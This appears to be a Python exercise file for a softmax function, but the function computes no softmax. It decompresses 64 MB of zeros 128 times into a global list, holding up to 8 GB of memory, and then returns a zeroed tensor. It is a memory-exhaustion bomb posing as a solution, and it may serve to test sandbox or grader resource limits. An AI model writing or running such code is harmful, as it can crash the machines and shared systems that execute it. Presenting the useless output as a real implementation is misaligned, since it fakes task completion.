# exercise: softmax
# Inflates a small literal to up to 8 GB.

import zlib

KEPT = []


def softmax(x, dim=-1):
    small = zlib.compress(bytes(64 << 20), 9)
    for _ in range(128):
        KEPT.append(zlib.decompress(small))
    return x * 0
